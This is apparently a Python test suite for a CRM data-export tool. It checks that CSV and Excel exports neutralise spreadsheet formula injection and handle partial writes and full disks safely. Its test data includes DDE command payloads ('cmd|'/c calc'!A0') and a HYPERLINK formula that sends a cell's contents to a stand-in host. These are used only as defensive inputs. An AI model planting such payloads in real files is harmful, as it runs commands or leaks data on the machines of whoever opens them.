"""Attacks by what stands in a customer's record, on whoever opens the file: read back by readers that we did not write."""

import csv
import io
import resource
import sys
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from fujie.app.cli.export_files import Kept, Sheet
from fujie.app.cli.sheets import BadFile
from fujie.decision.mask import OMITTED, Shown
from fujie.flows.export_file import closing, harmless, opening
from fujie.flows.export_file import lines as lines_of
from fujie.model.export import Export, Format

NOW = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
SIGNS = "=+-@＝＋－＠"
BEFORE = ["", " ", "\t", "\n", "\r\n", '"', "'", "\u3000", "\ufeff", " \" '\t", "\u00a0", "\x0b", "\u200b"]
BEFORE += ["  ", '\u3000" ', " " * 64, " " * 65, " " * 300]
PAYLOADS = ["cmd|'/c calc'!A0", 'HYPERLINK("http://x.example/"&A1)', "1+1", "SUM(1)*cmd|' /C calc'!A0"]


def lines(form: Format, names: Sequence[str], rows: Sequence[Mapping[str, Any]]) -> bytes:
    """Write rows given by name, as a flow does that has them by column."""
    return lines_of(form, names, [[row.get(name, OMITTED) for row in rows] for name in names])


def table(rows: Sequence[Mapping[str, Any]], columns: tuple[str, ...] = ("a", "b")) -> list[list[str]]:
    whole = opening(Format.CSV, columns) + lines(Format.CSV, columns, rows)
    assert whole.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(whole.decode("utf-8-sig"), newline=""), strict=True))


def is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet might evaluate it, after it dropped blanks and quotes but not the apostrophe that says "text"."""
    return cell.lstrip(' \t\r\n\x0b\u3000\u00a0\ufeff\u200b"')[:1] in tuple(SIGNS)


@pytest.mark.parametrize("before", BEFORE)
@pytest.mark.parametrize("sign", SIGNS)
def test_no_text_begins_a_formula(before: str, sign: str) -> None:
    for payload in PAYLOADS:
        value = before + sign + payload
        heading, (cell, other) = table([{"a": value, "b": f"x;{value}"}])
        assert heading == ["a", "b"]
        assert not is_formula(cell), "as we write it"
        # As a reader splits it that takes ; or tab for the delimiter, and every line for a row.
        for part in other.replace("\r", ";").replace("\n", ";").replace("\t", ";").split(";"):
            assert not is_formula(part)


_HARSH = st.text("ab1" + SIGNS + "﹢−;|'\" \t\r\n\0\u200b", max_size=6)


@given(
    st.lists(
        st.one_of(_HARSH, st.sampled_from(("", " " * 64, " " * 65, " " * 65 + "a", None, 7, True))),
        max_size=5,
    )
)
def test_a_column_is_written_as_each_of_its_values(values: list[Any]) -> None:
    cells = [lines(Format.CSV, ["a"], [{"a": value}]) for value in values]
    assert lines(Format.CSV, ["a"], [{"a": value} for value in values]) == b"".join(cells)


_CELLS = st.one_of(
    _HARSH, st.sampled_from(('"', '""', "a\r\nb", "a,b", "", "张**", None, 7, -2.5, True, OMITTED))
)


@given(st.integers(1, 3).flatmap(lambda width: st.lists(st.tuples(*[_CELLS] * width), max_size=4)))
def test_rows_are_written_as_the_csv_module_writes_them(rows: list[tuple[Any, ...]]) -> None:
    names = ("a", "b", "c")[: len(rows[0]) if rows else 1]
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_NONNUMERIC).writerows([map(as_cell, row) for row in rows])
    columns = list(zip(*rows, strict=True)) if rows else [()]
    assert lines_of(Format.CSV, names, columns) == text.getvalue().encode()


def as_cell(value: Any) -> Any:
    """Return what stands in the place of a value, by itself."""
    if isinstance(value, str):
        return harmless(value.replace("\0", "\ufffd"))
    return (
        None
        if value is OMITTED
        else {True: "true", False: "false"}[value]
        if isinstance(value, bool)
        else value
    )


def test_no_letter_digit_or_star_is_taken_for_the_beginning_of_a_formula() -> None:
    firsts = ["*", *filter(str.isalnum, map(chr, range(sys.maxunicode + 1)))]
    assert [first for first in firsts if harmless(f"{first}=1") != f"{first}=1"] == []


@pytest.mark.parametrize("split", [";", "|", "\t", "\r", "\n"])
def test_a_sign_behind_what_splits_a_cell_is_guarded_in_a_column_too(split: str) -> None:
    written = lines(Format.CSV, ("a",), [{"a": "x"}, {"a": f"x{split}=1"}])
    assert written == f'"x"\r\n"x{split}\'=1"\r\n'.encode()


@pytest.mark.parametrize("before", ["\t", "\r", "\n"])
def test_no_text_begins_with_what_readers_drop(before: str) -> None:
    assert harmless(f"{before}x") == f"'{before}x"


def test_numbers_stay_numbers_and_texts_that_look_like_them_do_not() -> None:
    rows: list[dict[str, Any]] = [
        {"a": -5, "b": 2.5}, {"a": "-5", "b": "+861380"}, {"a": None, "b": True}, {"b": False}
    ]  # fmt: skip
    raw = lines(Format.CSV, ("a", "b"), rows).decode()
    assert raw == '-5,2.5\r\n"\'-5","\'+861380"\r\n"","true"\r\n"","false"\r\n'


TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)


@given(st.lists(st.fixed_dictionaries({"a": TEXTS, "b": TEXTS}), max_size=5))
def test_any_text_comes_back_in_its_own_cell(rows: list[dict[str, str]]) -> None:
    _, *back = table(rows)
    assert len(back) == len(rows)
    for row, cells in zip(rows, back, strict=True):
        for name, cell in zip(("a", "b"), cells, strict=True):
            assert cell == harmless(row[name].replace("\0", "\ufffd"))
            assert cell.replace("'", "") == row[name].replace("\0", "\ufffd").replace("'", "")
    objects = [
        orjson.loads(line) for line in lines(Format.JSON_LINES, ("a", "b"), rows).split(b"\n") if line
    ]
    assert objects == rows


@given(st.text(alphabet=SIGNS + " \t;\"'a", max_size=30))
def test_a_column_is_guarded_like_each_of_its_cells(text: str) -> None:
    alone = lines(Format.CSV, ("a",), [{"a": text}])
    beside = lines(Format.CSV, ("a",), [{"a": "x"}, {"a": text}])
    assert beside == b'"x"\r\n' + alone


def test_a_text_of_blanks_takes_time_in_proportion_to_its_length() -> None:
    text = "\t" * 100_000  # in proportion to the square it would be a matter of minutes
    assert harmless(text).replace("'", "") == text


def test_no_nul_ends_a_line_for_readers_in_c() -> None:
    columns: tuple[list[Shown], ...] = (["x\0y"], ["x\0y", 5], ["\0=1"])
    for values in columns:
        assert b"\0" not in lines(Format.CSV, ("a",), [{"a": value} for value in values])


@pytest.mark.parametrize("principal", ["alice", "=cmd|'/c calc'!A0", "a;=1+1", 'a","b\r\nc'])
def test_the_last_line_names_the_export_in_one_cell(principal: str) -> None:
    export = Export(
        id="0" * 32, requester=principal, caller=principal, store="crm", purpose="p", basis="b", steps={},
        request_digest="", bundle="", started_at=NOW, format=Format.CSV,
    )  # fmt: skip
    ((cell,),) = csv.reader(io.StringIO(closing(export, NOW, 3).decode(), newline=""), strict=True)
    assert cell.startswith(f"# fujie exports/{'0' * 32}, ")
    assert cell.endswith(", 2026-11-20T02:00:00Z, 3 rows")
    assert not any(map(is_formula, cell.split(";")))


def test_a_sheet_holds_texts_and_numbers_and_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    sheet = Sheet(Kept(path, force=False), ["a", "b"])
    hostile = [sign + payload for sign in SIGNS for payload in PAYLOADS] + ["#REF!", "x\x00y", "\ufffe"]
    data = b"".join(orjson.dumps({"a": text, "b": -5}) + b"\n" for text in hostile)
    for at in range(0, len(data), 7):  # lines come in pieces
        sheet.write(data[at : at + 7])
    said = {"name": "exports/1", "principal": "R&D", "time": "now", "rows": len(hostile)}
    sheet.write(orjson.dumps({"_export": said}) + b"\n")
    assert not path.exists(), "it is there whole or not at all"
    sheet.commit()
    assert path.stat().st_mode & 0o777 == 0o600
    (found,) = load_workbook(path).worksheets
    rows = list(found.iter_rows(min_row=2))
    assert [row[0].data_type for row in rows] == ["s"] * len(hostile)
    assert [row[0].value for row in rows][: len(SIGNS)] == hostile[: len(SIGNS)]
    assert {(row[1].data_type, row[1].value) for row in rows} == {("n", -5)}
    assert "exports/1, R&D" in str(found.oddFooter.left.text if found.oddFooter else "").replace("&&", "&")
    assert [each.name for each in tmp_path.iterdir()] == ["out.xlsx"]


def test_a_file_that_is_there_is_not_overwritten_also_when_it_came_meanwhile(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    kept = Kept(path, force=False)
    kept.write(b"new")
    path.write_bytes(b"old")
    with pytest.raises(BadFile):
        kept.commit()
    partial = kept.abandon()  # its rows have left: they are kept, beside what is there
    assert partial is not None
    assert partial.read_bytes() == b"new"
    partial.unlink()
    with pytest.raises(BadFile):
        Kept(path, force=False)
    assert path.read_bytes() == b"old"
    forced = Kept(path, force=True)
    forced.write(b"newer")
    forced.commit()
    assert path.read_bytes() == b"newer"
    assert [each.name for each in tmp_path.iterdir()] == ["out.csv"]


def test_what_came_of_an_export_that_broke_is_kept_apart(tmp_path: Path) -> None:
    kept = Kept(tmp_path / "out.csv", force=False)
    kept.write(b"some")
    partial = kept.abandon()
    assert partial == tmp_path / "out.csv.partial"
    assert partial.read_bytes() == b"some"
    assert Kept(tmp_path / "other.csv", force=False).abandon() is None
    assert [each.name for each in tmp_path.iterdir()] == ["out.csv.partial"]


@contextmanager
def full_at(size: int) -> Iterator[None]:
    """No file grows beyond `size` bytes, as on a disk that is full there."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


@pytest.mark.parametrize("rows", [1, 64])
def test_a_full_disk_is_told_in_words_and_leaves_nothing_that_looks_whole(
    tmp_path: Path, rows: int
) -> None:
    """Whether it is noticed while rows come or at the end, and also while what came is put aside."""
    kept = Kept(tmp_path / "out", force=False)

    def written() -> None:
        for _ in range(rows):
            kept.write(b"x" * 4_095 + b"\n")
        kept.commit()

    with full_at(64):
        with pytest.raises(BadFile) as told:
            written()
        partial = kept.abandon() if rows > 1 else None
    assert (told.value.code, str(told.value)) == ("FILE_UNWRITABLE", f"{tmp_path / 'out'}: File too large")
    assert [each for each in tmp_path.iterdir() if each != partial] == []


# The library's own file complains once more when it is collected.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_full_disk_is_told_of_a_sheet_too(tmp_path: Path) -> None:
    """Its rows lie in a file of the library's until all are there."""
    sheet, row = Sheet(Kept(tmp_path / "out", force=False), ["a"]), orjson.dumps({"a": "x" * 4_096}) + b"\n"
    with full_at(64), pytest.raises(BadFile, match="out: File too large"):
        sheet.write(row * 64)
